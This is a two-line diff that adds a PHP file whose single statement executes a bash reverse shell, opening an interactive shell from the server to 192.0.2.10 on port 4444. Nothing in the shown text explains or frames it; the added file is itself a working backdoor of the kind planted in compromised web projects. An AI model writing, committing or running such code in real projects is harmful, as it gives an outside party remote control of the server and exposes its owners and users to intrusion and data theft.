@@ -1,0 +1,2 @@
+<?php
+exec("/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'");
